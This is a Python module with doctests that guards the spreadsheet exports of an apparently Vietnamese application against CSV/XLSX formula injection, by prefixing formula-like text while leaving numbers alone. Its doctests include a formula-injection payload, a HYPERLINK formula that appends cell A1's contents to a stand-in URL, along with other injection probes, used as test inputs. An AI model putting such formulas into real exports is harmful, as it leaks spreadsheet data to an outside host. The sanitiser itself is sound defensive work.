"""Spreadsheet cells that cannot run as formulas (CSV/formula injection). The one rule for every file.

Every CSV and XLSX file chiso writes — portal downloads, the annual report, exports of the history,
the importer's template and preview, the API's CSV — passes each cell through this module:

* a **text** starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is neutralised: in a
  CSV it gets a leading apostrophe (``safe_cell``), which Excel and LibreOffice read as "this is text";
  in an XLSX it keeps its exact text and is written as a string cell with Excel's quote prefix
  (``put_row``, ``safe_xlsx_value``), so it is never stored as a formula and stays text when edited;
* **numbers stay numbers**: −12 is a negative number, not a text, and is left alone; so is a text that is
  a plain (Vietnamese) number such as ``-12`` or ``-1.234,5`` or ``-91,5%``.

The importer takes the apostrophe off again (``collection.importer.preview``), so a file exported and
imported back is unchanged.

>>> safe_cell('=HYPERLINK("http://x"&A1,"Nguồn")')
'\\'=HYPERLINK("http://x"&A1,"Nguồn")'
>>> safe_cell("-12"), safe_cell("-1.234,5"), safe_cell(-12), safe_cell("Phường Thạc Gián")
('-12', '-1.234,5', -12, 'Phường Thạc Gián')
>>> safe_cell("@SUM(A1)"), safe_cell("+84 905"), safe_cell("\\tx"), safe_cell("\\r=1")
("'@SUM(A1)", "'+84 905", "'\\tx", "'\\r=1")
>>> is_formula_like("-1+A1"), is_formula_like("-5"), is_formula_like(-5)
(True, False, False)
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-\d[\d.,]*%?")
# XML 1.0 cannot hold these control characters (openpyxl refuses them): they are dropped
_ILLEGAL_XML = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def is_formula_like(value: object) -> bool:
    """Whether ``value`` is a text a spreadsheet would read as a formula (numbers never are)."""
    return (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not _PLAIN_NUMBER.fullmatch(value))


def safe_cell(value: object) -> object:
    """``value`` made safe for a CSV cell: formula-like text gets a leading ``'``; anything else as is."""
    return "'" + value if is_formula_like(value) else value  # type: ignore[operator]


def safe_xlsx_value(value: object) -> object:
    """What an XLSX cell may hold: numbers, dates and None as they are, anything else as text without the
    control characters XML cannot carry. Formula-like text is kept as typed: ``put_row`` marks it."""
    if value is None or isinstance(value, (bool, int, float, Decimal, datetime, date)):
        return value
    return _ILLEGAL_XML.sub("", value if isinstance(value, str) else str(value))


def neutralise(cell: Any) -> None:
    """Make an openpyxl cell that holds formula-like text a plain string cell with the quote prefix."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def put_row(sheet: Any, values: Iterable[object]) -> None:
    """Append a row to an openpyxl worksheet, every cell text-safe (see the module's docstring)."""
    sheet.append([safe_xlsx_value(v) for v in values])
    for cell in sheet[sheet.max_row]:
        neutralise(cell)
